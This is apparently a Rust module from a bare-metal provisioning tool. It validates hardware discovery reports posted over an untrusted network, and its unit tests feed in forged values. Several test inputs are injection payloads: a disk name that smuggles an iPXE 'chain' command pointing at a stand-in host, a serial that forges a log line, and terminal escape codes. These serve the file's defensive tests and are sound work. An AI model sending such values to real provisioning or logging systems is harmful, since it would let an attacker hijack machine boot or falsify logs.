//! A physical machine as discovery reports it: the shape Harmony's inventory stores and the
//! discovery agent sends, and the rules a report must meet before anything of it is stored.
//!
//! The provisioning network is hostile: anyone on it can post a report. [`DiscoveryReport::validate`]
//! bounds every field to what hardware can report, so a forged report cannot store absurd
//! values, nor carry text that would later change the shape of an iPXE script, a kernel command
//! line or a log line.

use serde::{Deserialize, Serialize};
use std::collections::HashSet;
use std::fmt;

use crate::{HostName, Id, InvalidValue, MacAddress};

/// A machine as discovered: identity, NICs and hardware facts.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct PhysicalHost {
    /// Stable identifier (serial number or first MAC).
    pub id: Id,
    /// The host name it reported, if any.
    pub hostname: Option<HostName>,
    /// The DMI system serial number, when the firmware gives a real one (the label on the
    /// chassis, to match a report to a machine in the rack).
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub serial: Option<String>,
    /// MAC addresses of its network interfaces.
    pub macs: Vec<MacAddress>,
    /// Logical CPU count.
    pub cpu_count: u32,
    /// Memory in bytes.
    pub memory_bytes: u64,
    /// Block devices.
    pub disks: Vec<Disk>,
}

/// A block device.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Disk {
    /// Kernel name, e.g. `sda`, `nvme0n1` (a [`DiskName`] once the report is validated).
    pub name: String,
    /// Size in bytes.
    pub size_bytes: u64,
    /// Rotational (HDD) or not.
    pub rotational: bool,
    /// The model the device reports (`/sys/block/<name>/device/model`), printable ASCII.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub model: Option<String>,
    /// The device's serial number (`/sys/block/<name>/device/serial`, or `serial` for
    /// virtio), printable ASCII.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub serial: Option<String>,
    /// The device's World Wide Name (`/sys/block/<name>/wwid` or `device/wwid`), printable
    /// ASCII.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub wwn: Option<String>,
}

const DISK_EXPECTED: &str = "a kernel block device name: sd[a-z]{1,3}, vd[a-z]{1,3}, \
xvd[a-z]{1,3}, hd[a-z], nvme<0-999>n<0-999> or mmcblk<0-999>";

/// The kernel name of a whole disk an installer can write to (`sda`, `vdb`, `xvda`, `hdc`,
/// `nvme0n1`, `mmcblk0`): letters and digits only, so `/dev/<name>` is one word of a kernel
/// command line and can never carry a space, a newline or an iPXE setting.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, Deserialize)]
#[serde(try_from = "String", into = "String")]
pub struct DiskName(String);

impl DiskName {
    /// Accepts `sd[a-z]{1,3}`, `vd[a-z]{1,3}`, `xvd[a-z]{1,3}`, `hd[a-z]`,
    /// `nvme[0-9]{1,3}n[0-9]{1,3}` and `mmcblk[0-9]{1,3}`.
    pub fn parse(s: &str) -> Result<Self, InvalidValue> {
        let letters = |rest: &str, max: usize| {
            (1..=max).contains(&rest.len()) && rest.bytes().all(|b| b.is_ascii_lowercase())
        };
        let digits =
            |rest: &str| (1..=3).contains(&rest.len()) && rest.bytes().all(|b| b.is_ascii_digit());
        let ok = if let Some(rest) = s.strip_prefix("nvme") {
            rest.split_once('n')
                .is_some_and(|(ctrl, ns)| digits(ctrl) && digits(ns))
        } else if let Some(rest) = s.strip_prefix("mmcblk") {
            digits(rest)
        } else if let Some(rest) = s.strip_prefix("xvd") {
            letters(rest, 3)
        } else if let Some(rest) = s.strip_prefix("sd").or_else(|| s.strip_prefix("vd")) {
            letters(rest, 3)
        } else if let Some(rest) = s.strip_prefix("hd") {
            letters(rest, 1)
        } else {
            false
        };
        if ok {
            Ok(Self(s.to_string()))
        } else {
            Err(InvalidValue::new(
                "disk name",
                s,
                "not a whole-disk kernel device name",
                DISK_EXPECTED,
            ))
        }
    }

    /// The name as a string slice, e.g. `nvme0n1`.
    pub fn as_str(&self) -> &str {
        &self.0
    }

    /// The device path, `/dev/<name>`.
    pub fn dev_path(&self) -> String {
        format!("/dev/{}", self.0)
    }
}

impl fmt::Display for DiskName {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.0)
    }
}

crate::string_value!(DiskName);

/// At most this many MACs in one report (a server has a handful of NICs; 64 is generous).
pub const MAX_MACS: usize = 64;
/// The highest CPU count a report may carry.
pub const MAX_CPUS: u32 = 4096;
/// The least memory a report may carry: 1 MiB.
pub const MIN_MEMORY_BYTES: u64 = 1 << 20;
/// The most memory a report may carry: 64 TiB (well within the inventory's signed 64-bit
/// column).
pub const MAX_MEMORY_BYTES: u64 = 64 << 40;
/// At most this many disks in one report.
pub const MAX_DISKS: usize = 256;
/// The largest disk a report may carry: 8 PiB.
pub const MAX_DISK_BYTES: u64 = 8 << 50;
/// The longest serial number or UUID text a report may carry, in bytes.
pub const MAX_TEXT: usize = 128;

/// A report field that breaks a rule: which field, what is wrong, and what a valid value is.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("field {field}: {problem}; {fix}")]
pub struct InvalidReport {
    /// The field, as a JSON path (`disks[3].name`, `macs`, `serial`).
    pub field: String,
    /// What is wrong with it (reported text is escaped).
    pub problem: String,
    /// What a valid value looks like.
    pub fix: String,
}

fn invalid(
    field: impl Into<String>,
    problem: impl Into<String>,
    fix: impl Into<String>,
) -> InvalidReport {
    InvalidReport {
        field: field.into(),
        problem: problem.into(),
        fix: fix.into(),
    }
}

/// Reported text shortened for an error message: at most 40 characters, escaped.
fn shown(s: &str) -> String {
    let mut cut: String = s.chars().take(40).collect();
    if cut.len() < s.len() {
        cut.push('…');
    }
    format!("{cut:?}")
}

/// `s` is 1..=[`MAX_TEXT`] bytes of printable ASCII (space to `~`: no control character, no
/// newline, nothing outside ASCII).
pub fn check_printable(field: &str, s: &str) -> Result<(), InvalidReport> {
    let fix =
        format!("send 1 to {MAX_TEXT} printable ASCII characters (space to '~'), or leave it out");
    if s.is_empty() || s.len() > MAX_TEXT {
        return Err(invalid(field, format!("{} bytes long", s.len()), fix));
    }
    if let Some(c) = s.chars().find(|c| !(' '..='~').contains(c)) {
        return Err(invalid(field, format!("{} carries {c:?}", shown(s)), fix));
    }
    Ok(())
}

/// `s` is a UUID in its text form: 8-4-4-4-12 hexadecimal digits.
pub fn check_uuid(field: &str, s: &str) -> Result<(), InvalidReport> {
    let groups: Vec<&str> = s.split('-').collect();
    let ok = groups.len() == 5
        && groups
            .iter()
            .zip([8, 4, 4, 4, 12])
            .all(|(g, n)| g.len() == n && g.bytes().all(|b| b.is_ascii_hexdigit()));
    if ok {
        Ok(())
    } else {
        Err(invalid(
            field,
            format!("{} is not a UUID", shown(s)),
            "send the DMI product UUID as 8-4-4-4-12 hexadecimal digits, or leave it out",
        ))
    }
}

impl PhysicalHost {
    /// Checks every field against what hardware can report (see the constants of this module):
    /// 1..=[`MAX_MACS`] unique unicast MACs, 1..=[`MAX_CPUS`] CPUs,
    /// [`MIN_MEMORY_BYTES`]..=[`MAX_MEMORY_BYTES`] of memory, at most [`MAX_DISKS`] disks with
    /// unique [`DiskName`]s and sizes of whole 512-byte sectors up to [`MAX_DISK_BYTES`], and a
    /// serial of printable ASCII. The id, hostname and MACs are checked by their types when
    /// the report is parsed. The error names the first field that breaks a rule and the fix.
    pub fn validate(&self) -> Result<(), InvalidReport> {
        if let Some(serial) = &self.serial {
            check_printable("serial", serial)?;
        }
        if self.macs.is_empty() || self.macs.len() > MAX_MACS {
            return Err(invalid(
                "macs",
                format!("{} MAC(s)", self.macs.len()),
                format!("report the MACs of the host's physical NICs: 1 to {MAX_MACS}"),
            ));
        }
        let mut seen = HashSet::with_capacity(self.macs.len());
        for (i, mac) in self.macs.iter().enumerate() {
            let field = format!("macs[{i}]");
            if !seen.insert(*mac) {
                return Err(invalid(
                    field,
                    format!("{mac} is listed twice"),
                    "list each MAC once",
                ));
            }
            let octets = mac.octets();
            if octets == [0; 6] || octets[0] & 1 == 1 {
                return Err(invalid(
                    field,
                    format!("{mac} is not a NIC's own address (all-zero or multicast)"),
                    "report the unicast MACs of the host's physical NICs",
                ));
            }
        }
        if !(1..=MAX_CPUS).contains(&self.cpu_count) {
            return Err(invalid(
                "cpu_count",
                format!("{} CPUs", self.cpu_count),
                format!("report the logical CPUs of /proc/cpuinfo: 1 to {MAX_CPUS}"),
            ));
        }
        if !(MIN_MEMORY_BYTES..=MAX_MEMORY_BYTES).contains(&self.memory_bytes) {
            return Err(invalid(
                "memory_bytes",
                format!("{} bytes", self.memory_bytes),
                format!(
                    "report the installed memory in bytes: {MIN_MEMORY_BYTES} (1 MiB) to {MAX_MEMORY_BYTES} (64 TiB)"
                ),
            ));
        }
        if self.disks.len() > MAX_DISKS {
            return Err(invalid(
                "disks",
                format!("{} disks", self.disks.len()),
                format!("report the whole disks of /sys/block: at most {MAX_DISKS}"),
            ));
        }
        let mut names = HashSet::with_capacity(self.disks.len());
        for (i, d) in self.disks.iter().enumerate() {
            let name = DiskName::parse(&d.name).map_err(|e| {
                invalid(
                    format!("disks[{i}].name"),
                    format!("{} is {}", shown(&d.name), e.reason),
                    format!("report {DISK_EXPECTED}"),
                )
            })?;
            if !names.insert(name) {
                return Err(invalid(
                    format!("disks[{i}].name"),
                    format!("{} is listed twice", d.name),
                    "list each disk once",
                ));
            }
            for (what, value) in [("model", &d.model), ("serial", &d.serial), ("wwn", &d.wwn)] {
                if let Some(v) = value {
                    check_printable(&format!("disks[{i}].{what}"), v)?;
                }
            }
            if d.size_bytes == 0 || d.size_bytes > MAX_DISK_BYTES || d.size_bytes % 512 != 0 {
                return Err(invalid(
                    format!("disks[{i}].size_bytes"),
                    format!("{} bytes", d.size_bytes),
                    format!("report whole 512-byte sectors, 512 to {MAX_DISK_BYTES} bytes (8 PiB)"),
                ));
            }
        }
        Ok(())
    }
}

/// What the discovery agent posts to `POST /discovery`: the host as Harmony's inventory stores
/// it, plus the DMI UUID it was read with (the UUID is also the host's id when the firmware
/// has one).
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct DiscoveryReport {
    /// The host, with its DMI serial number.
    #[serde(flatten)]
    pub host: PhysicalHost,
    /// The DMI system UUID, if the firmware gives a real one.
    #[serde(default)]
    pub uuid: Option<String>,
    /// The MAC of the NIC the host PXE-booted the discovery image from (iPXE's `${mac}`,
    /// passed on the kernel command line as `harmony.bootmac=`); one of `macs`. The inventory
    /// lists it first: a host's first MAC is the one it is bound and reserved by.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub boot_mac: Option<MacAddress>,
}

impl DiscoveryReport {
    /// Checks the host ([`PhysicalHost::validate`]) and the UUID's format; the error names the
    /// field and the fix. Run it on every report before anything of it is stored or logged.
    pub fn validate(&self) -> Result<(), InvalidReport> {
        self.host.validate()?;
        if let Some(uuid) = &self.uuid {
            check_uuid("uuid", uuid)?;
        }
        if let Some(mac) = &self.boot_mac
            && !self.host.macs.contains(mac)
        {
            return Err(invalid(
                "boot_mac",
                format!("{mac} is not one of the reported macs"),
                "send the MAC of the NIC that PXE-booted (harmony.bootmac= on the kernel command line), which is one of macs, or leave it out",
            ));
        }
        Ok(())
    }

    /// The host as the inventory keeps it: its MACs with the boot MAC first (the MAC it is
    /// bound, reserved and scripted by), the others in the order reported.
    pub fn into_host(self) -> PhysicalHost {
        let mut host = self.host;
        if let Some(boot) = self.boot_mac
            && let Some(i) = host.macs.iter().position(|m| *m == boot)
        {
            let mac = host.macs.remove(i);
            host.macs.insert(0, mac);
        }
        host
    }

    /// One line for a console or a log: id, CPUs, memory, disks, MACs, serial and UUID, the
    /// reported text escaped (`\n`, `\u{..}`), so that a report cannot forge a line.
    pub fn summary(&self) -> String {
        let h = &self.host;
        let disks: Vec<String> = h
            .disks
            .iter()
            .map(|d| format!("{} {} MiB", d.name.escape_debug(), d.size_bytes >> 20))
            .collect();
        let macs: Vec<String> = h.macs.iter().map(|m| m.to_string()).collect();
        let text = |s: &Option<String>| {
            s.as_ref()
                .map_or("none".to_string(), |s| s.escape_debug().to_string())
        };
        format!(
            "host {}: {} vCPU, {} MiB memory, disks [{}], MACs [{}], serial {}, UUID {}",
            h.id,
            h.cpu_count,
            h.memory_bytes >> 20,
            disks.join(", "),
            macs.join(", "),
            text(&h.serial),
            text(&self.uuid),
        )
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn host() -> PhysicalHost {
        PhysicalHost {
            id: Id::parse("4c4c4544-0042-3510-8051-b7c04f4e3232").unwrap(),
            hostname: None,
            serial: Some("CZJ1234567".into()),
            macs: vec![MacAddress::parse("52:54:00:00:00:31").unwrap()],
            cpu_count: 4,
            memory_bytes: 8 << 30,
            disks: vec![Disk {
                name: "sda".into(),
                size_bytes: 100 << 30,
                rotational: false,
                ..Default::default()
            }],
        }
    }

    fn report(h: PhysicalHost) -> DiscoveryReport {
        DiscoveryReport {
            host: h,
            uuid: Some("4c4c4544-0042-3510-8051-b7c04f4e3232".into()),
            boot_mac: None,
        }
    }

    /// The report with `change` applied is refused, naming `field`.
    #[track_caller]
    fn refused(change: impl FnOnce(&mut DiscoveryReport), field: &str) -> InvalidReport {
        let mut r = report(host());
        change(&mut r);
        let e = r.validate().expect_err("accepted");
        assert_eq!(e.field, field, "{e}");
        assert!(
            e.to_string().starts_with(&format!("field {field}: ")),
            "{e}"
        );
        e
    }

    #[test]
    fn the_boot_mac_is_one_of_the_macs_and_comes_first() {
        let mut r = report(host());
        let other = MacAddress::parse("52:54:00:00:00:32").unwrap();
        r.host.macs.push(other);
        r.boot_mac = Some(other);
        r.validate().unwrap();
        assert_eq!(r.clone().into_host().macs[0], other);
        refused(
            |r| r.boot_mac = Some(MacAddress::parse("52:54:00:00:00:99").unwrap()),
            "boot_mac",
        );
    }

    #[test]
    fn a_real_report_is_accepted() {
        report(host()).validate().unwrap();
        let mut h = host();
        h.serial = None;
        h.disks.clear();
        DiscoveryReport {
            host: h,
            uuid: None,
            boot_mac: None,
        }
        .validate()
        .unwrap();
    }

    #[test]
    fn disk_names_are_kernel_whole_disk_names() {
        for ok in [
            "sda",
            "sdzzz",
            "vdb",
            "xvda",
            "hdc",
            "nvme0n1",
            "nvme12n345",
            "mmcblk0",
        ] {
            assert_eq!(
                DiskName::parse(ok).unwrap().dev_path(),
                format!("/dev/{ok}")
            );
        }
        for bad in [
            "",
            "sd",
            "sdA",
            "sda1",
            "sdaaaa",
            "hdab",
            "nvme0",
            "nvme0n",
            "nvme0n1p1",
            "nvmen1",
            "nvme1234n1",
            "mmcblk",
            "mmcblk0p1",
            "loop0",
            "dm-0",
            "sda\nchain x",
            "sda ",
            " sda",
            "../sda",
            "sda${x}",
            "ｓda",
        ] {
            let e = DiskName::parse(bad).unwrap_err();
            assert!(e.to_string().contains("kernel block device name"), "{e}");
        }
        let e = refused(
            |r| r.host.disks[0].name = "sda\nchain http://192.0.2.66/pwn.ipxe".into(),
            "disks[0].name",
        );
        assert!(
            e.problem.contains("\\n"),
            "the reported text is escaped: {e}"
        );
        assert!(!e.to_string().contains('\n'), "{e}");
    }

    #[test]
    fn disks_are_bounded_unique_and_whole_sectors() {
        refused(
            |r| {
                r.host.disks = (0..5000)
                    .map(|i| Disk {
                        name: format!("sd{}", ["a", "b"][i % 2]),
                        size_bytes: 512,
                        rotational: false,
                        ..Default::default()
                    })
                    .collect()
            },
            "disks",
        );
        refused(
            |r| r.host.disks.push(r.host.disks[0].clone()),
            "disks[1].name",
        );
        refused(|r| r.host.disks[0].size_bytes = 0, "disks[0].size_bytes");
        refused(|r| r.host.disks[0].size_bytes = 1000, "disks[0].size_bytes");
        refused(
            |r| r.host.disks[0].size_bytes = u64::MAX,
            "disks[0].size_bytes",
        );
        let mut h = host();
        h.disks = (0..MAX_DISKS)
            .map(|i| Disk {
                name: format!("nvme{i}n1"),
                size_bytes: MAX_DISK_BYTES,
                rotational: false,
                ..Default::default()
            })
            .collect();
        h.validate().unwrap();
        // Identity text is printable and bounded like the serial.
        refused(
            |r| r.host.disks[0].model = Some("x\ny".into()),
            "disks[0].model",
        );
        refused(
            |r| r.host.disks[0].serial = Some("s".repeat(129)),
            "disks[0].serial",
        );
        refused(
            |r| r.host.disks[0].wwn = Some(String::new()),
            "disks[0].wwn",
        );
    }

    #[test]
    fn macs_are_one_to_64_unique_unicast() {
        refused(|r| r.host.macs.clear(), "macs");
        refused(
            |r| {
                r.host.macs = (0..=MAX_MACS as u8)
                    .map(|i| MacAddress::parse(&format!("52:54:00:00:01:{i:02x}")).unwrap())
                    .collect()
            },
            "macs",
        );
        refused(|r| r.host.macs.push(r.host.macs[0]), "macs[1]");
        refused(
            |r| {
                r.host
                    .macs
                    .push(MacAddress::parse("00:00:00:00:00:00").unwrap())
            },
            "macs[1]",
        );
        refused(
            |r| {
                r.host
                    .macs
                    .push(MacAddress::parse("ff:ff:ff:ff:ff:ff").unwrap())
            },
            "macs[1]",
        );
        refused(
            |r| {
                r.host
                    .macs
                    .push(MacAddress::parse("01:00:5e:00:00:01").unwrap())
            },
            "macs[1]",
        );
    }

    #[test]
    fn cpus_and_memory_are_what_hardware_has() {
        refused(|r| r.host.cpu_count = 0, "cpu_count");
        refused(|r| r.host.cpu_count = MAX_CPUS + 1, "cpu_count");
        refused(|r| r.host.memory_bytes = 0, "memory_bytes");
        refused(
            |r| r.host.memory_bytes = MIN_MEMORY_BYTES - 1,
            "memory_bytes",
        );
        refused(
            |r| r.host.memory_bytes = MAX_MEMORY_BYTES + 1,
            "memory_bytes",
        );
        let e = refused(|r| r.host.memory_bytes = u64::MAX, "memory_bytes");
        assert!(e.fix.contains("64 TiB"), "{e}");
        assert!(i64::try_from(MAX_MEMORY_BYTES).is_ok());
        let mut h = host();
        h.cpu_count = MAX_CPUS;
        h.memory_bytes = MAX_MEMORY_BYTES;
        h.validate().unwrap();
        h.cpu_count = 1;
        h.memory_bytes = MIN_MEMORY_BYTES;
        h.validate().unwrap();
    }

    #[test]
    fn serial_is_short_printable_ascii() {
        refused(|r| r.host.serial = Some(String::new()), "serial");
        refused(|r| r.host.serial = Some("x".repeat(900 * 1024)), "serial");
        refused(|r| r.host.serial = Some("x".repeat(MAX_TEXT + 1)), "serial");
        let e = refused(
            |r| r.host.serial = Some("CZJ1\nINFO discovery: host evil approved".into()),
            "serial",
        );
        assert!(!e.to_string().contains('\n'), "{e}");
        refused(|r| r.host.serial = Some("CZJ\u{1b}[2J".into()), "serial");
        refused(|r| r.host.serial = Some("CZJ\u{7f}".into()), "serial");
        refused(|r| r.host.serial = Some("séríal".into()), "serial");
        let mut h = host();
        h.serial = Some("SN 12-34/AB~".into());
        h.validate().unwrap();
        h.serial = Some("x".repeat(MAX_TEXT));
        h.validate().unwrap();
    }

    #[test]
    fn uuid_is_a_uuid() {
        for bad in [
            "",
            "not-a-uuid",
            "4c4c4544-0042-3510-8051-b7c04f4e323",
            "4c4c4544-0042-3510-8051-b7c04f4e3232\n",
            "4c4c4544004235108051b7c04f4e3232",
            "4c4c4544-0042-3510-8051-b7c04f4e323g",
        ] {
            refused(|r| r.uuid = Some(bad.into()), "uuid");
        }
        let mut r = report(host());
        r.uuid = Some("4C4C4544-0042-3510-8051-B7C04F4E3232".into());
        r.validate().unwrap();
    }

    #[test]
    fn the_wire_form_round_trips_and_types_refuse_bad_ids_and_macs() {
        let r = report(host());
        let json = serde_json::to_value(&r).unwrap();
        assert_eq!(json["uuid"], "4c4c4544-0042-3510-8051-b7c04f4e3232");
        assert_eq!(json["serial"], "CZJ1234567");
        assert_eq!(
            serde_json::from_value::<DiscoveryReport>(json.clone()).unwrap(),
            r
        );
        let mut no_uuid = json.clone();
        no_uuid.as_object_mut().unwrap().remove("uuid");
        assert_eq!(
            serde_json::from_value::<DiscoveryReport>(no_uuid)
                .unwrap()
                .uuid,
            None
        );
        let mut bad_id = json.clone();
        bad_id["id"] = "a\nb".into();
        assert!(serde_json::from_value::<DiscoveryReport>(bad_id).is_err());
        let mut bad_mac = json;
        bad_mac["macs"] = serde_json::json!(["52:54:00:00:00:31\nchain x"]);
        assert!(serde_json::from_value::<DiscoveryReport>(bad_mac).is_err());
    }

    #[test]
    fn summary_escapes_reported_text() {
        let mut r = report(host());
        assert!(
            r.summary().contains("serial CZJ1234567, UUID 4c4c4544-"),
            "{}",
            r.summary()
        );
        r.host.serial = Some("a\nb".into());
        r.host.disks[0].name = "sda\rx".into();
        let s = r.summary();
        assert!(!s.contains('\n') && !s.contains('\r'), "{s}");
        assert!(s.contains("serial a\\nb") && s.contains("sda\\rx"), "{s}");
    }
}
